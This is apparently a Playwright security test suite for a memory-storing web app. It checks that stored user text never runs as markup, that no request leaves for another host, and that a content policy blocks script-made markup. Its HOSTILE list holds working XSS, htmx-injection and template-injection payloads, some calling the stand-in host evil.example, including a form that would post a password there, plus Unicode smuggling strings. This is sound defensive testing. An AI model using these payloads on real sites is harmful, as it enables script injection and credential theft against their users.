"""Words from outside never become anything but words, on any page they reach."""

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Dialog, Page, expect

from tests.frontend.conftest import Visit, let_in
from tests.frontend.test_memories import remember
from tests.people import Person
from vault import memories, recall
from vault.access import open_token
from vault.types import Draft, Right

HOSTILE = [
    "<script>window.pwned = 1</script>",
    "<script src='https://evil.example/x.js'></script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<svg onload='window.pwned = 1'><circle r='9'/></svg>",
    "<svg><script>window.pwned = 1</script></svg>",
    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "<object data='https://evil.example/'></object>",
    "<style>body { display: none }</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example/'>",
    "<form action='https://evil.example/'><input name=password></form>",
    "<a href='javascript:window.pwned = 1' id='bait'>click</a>",
    "<div hx-get='https://evil.example/' hx-trigger='load'>x</div>",
    "<div data-hx-get='/lock/' data-hx-trigger='load'>x</div>",
    "<div hx-on:load='window.pwned = 1' hx-trigger='load' hx-get='/'>x</div>",
    "<hx-partial hx-target='body'><h1>taken over</h1></hx-partial>",
    "<template hx type='partial' hx-target='body'><h1>taken over</h1></template>",
    "<p id='toasts' hx-swap-oob='true'>taken over</p>",
    "</textarea></title></style><script>window.pwned = 1</script>",
    "\"'><script>window.pwned = 1</script>",
    "' onmouseover='window.pwned = 1' x='",
    "--><script>window.pwned = 1</script><!--",
    "{{ request.user.password }} {% load ui %} {% csrf_token %}",
    "<c-head title='x' /> <c-toast />",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;window.pwned = 1&lt;/script&gt;",
    "<math><mtext><mglyph><style><img src=x onerror='window.pwned = 1'>",
    "]]><script>window.pwned = 1</script>",
]
HIDDEN = "pay \u202eexe.txt\u202c now\u200b\u2066\u2069\U000e0041\U000e0042\x1b[31m\x00!"
MADE = (
    "main :is(script, iframe, object, img, style, base, meta, math, hx-partial), "
    "main [onerror], main [onload], main [onmouseover], main [hx-on\\:load], "
    "[action*='evil.example'], [href*='evil.example'], [src*='evil.example'], #bait"
)


@pytest.fixture
def victim(person: Person) -> Person:
    access = open_token(person.token(HOSTILE[0], Personal=Right(see=True, add="ask"))[1])
    home = person.collection("Personal")
    for text in HOSTILE:
        remember(person, text, title=text, vendor="openai")
        memories.remember(access, home, Draft(text=f"suggested {text}"))
    remember(person, HIDDEN, vendor="openai")
    for text in HOSTILE[:5]:
        recall.search(access, "script", purpose=text)
    return person


@pytest.fixture
def watched(visit: Visit, victim: Person) -> Page:
    page = visit(victim)
    asked: list[str] = []
    page.on("dialog", lambda dialog: _refuse(dialog, asked))
    page.on("request", lambda request: asked.append(request.url))
    yield page
    strangers = [url for url in asked if urlsplit(url).hostname != "127.0.0.1"]
    assert strangers == []


def _refuse(dialog: Dialog, asked: list[str]) -> None:
    asked.append(f"dialog://{dialog.message}")
    dialog.dismiss()


def inert(page: Page) -> None:
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.pwned") is None, page.url
    assert page.locator(MADE).count() == 0, page.url
    assert page.get_by_role("heading", name="taken over").count() == 0
    assert "satchel_argon2id" not in page.content()


def test_hostile_words_are_inert_wherever_they_are_shown(watched: Page) -> None:
    page = watched
    for address in (
        "/",
        "/memories/",
        "/review/",
        "/review/?skip=1",
        "/grants/",
        "/activity/",
        "/memories/?q=script",
    ):
        page.goto(address)
        inert(page)
    page.goto("/memories/")
    for text in HOSTILE:
        assert page.get_by_text(text, exact=True).count() >= 1, text
    page.get_by_label("Search memories").fill("script")  # now they come as a fragment
    expect(page.locator("#results mark").first).to_be_visible()
    inert(page)
    page.get_by_label("Search memories").fill("<img src=x onerror='window.pwned = 1'>")
    expect(page.locator("#count")).to_contain_text("<img src=x onerror")
    inert(page)


@pytest.mark.parametrize("number", [0, 2, 12, 18])
def test_hostile_words_are_inert_in_a_memory_its_form_and_its_history(
    visit: Visit, person: Person, number: int
) -> None:
    made = remember(person, HOSTILE[number], title=HOSTILE[number])
    page = visit(person)
    page.goto(f"/memories/{made.id}/")
    inert(page)
    page.keyboard.press("e")
    box = page.get_by_label("Memory", exact=True)
    expect(box).to_have_value(HOSTILE[number])
    inert(page)
    box.fill(HOSTILE[number] + " and more")
    page.get_by_role("button", name="Save").click()
    expect(page.locator(".timeline ins")).to_be_visible()
    inert(page)


def test_what_is_invisible_is_not_shown(visit: Visit, victim: Person) -> None:
    page = visit(victim)
    page.goto("/memories/?q=pay")
    words = page.locator("#results .entry-link").first.inner_text()
    assert words == "pay exe.txt now[31m!"


def test_an_element_without_our_nonce_asks_for_nothing(browser_page: Page) -> None:
    """The second wall, should an escape ever be forgotten: htmx ignores what we did not mark."""
    page = browser_page
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.evaluate("""() => {
        const bait = document.createElement("div");
        bait.setAttribute("hx-get", "/grants/");
        bait.setAttribute("hx-trigger", "load");
        document.querySelector("main").append(bait);
        htmx.process(bait);
    }""")
    page.wait_for_timeout(500)
    assert [url for url in asked if url.endswith("/grants/")] == []


def test_the_policy_refuses_markup_made_by_script(browser_page: Page) -> None:
    refused = browser_page.evaluate("""() => {
        try { document.querySelector("main").innerHTML = "<b>x</b>"; return ""; }
        catch (error) { return error.name; }
    }""")
    assert refused == "TypeError"


@pytest.fixture
def browser_page(page: Page, person: Person) -> Page:
    """Without the watch on the console: these tests provoke its errors."""
    let_in(page, person)
    return page
